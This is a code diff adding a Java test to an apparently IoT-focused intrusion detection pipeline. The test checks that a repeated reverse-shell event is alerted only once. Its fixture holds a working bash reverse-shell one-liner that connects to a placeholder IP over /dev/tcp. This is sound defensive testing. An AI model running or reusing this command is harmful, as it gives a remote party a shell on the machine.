@@ -135,6 +135,16 @@ class DetectionPipelineTest {
     }
 
     @Test
+    void theSameEventTwiceInARowCountsOnceEvenInOneBatch() throws Exception {
+        FeedEvent shell = process(Instant.now().minusSeconds(5), "bash -i >& /dev/tcp/203.0.113.6/4444 0>&1");
+        publish("rs-twice", List.of(shell));
+        publish("rs-twice", List.of(shell));
+        awaitAlert("rs-twice", "IoT_ReverseShell");
+        Thread.sleep(1000);
+        assertThat(TestDatabase.count("SELECT max(hit_count) FROM detection.alert_state WHERE device_id = 'rs-twice'")).isEqualTo(1);
+    }
+
+    @Test
     void anOpenPortIsActiveUntilALaterSnapshotNoLongerShowsIt() {
         Instant now = Instant.now();
         publish("ports-1", List.of(listeningPorts(now.minusSeconds(60), "0.0.0.0", "23", "127.0.0.1", "5432")));
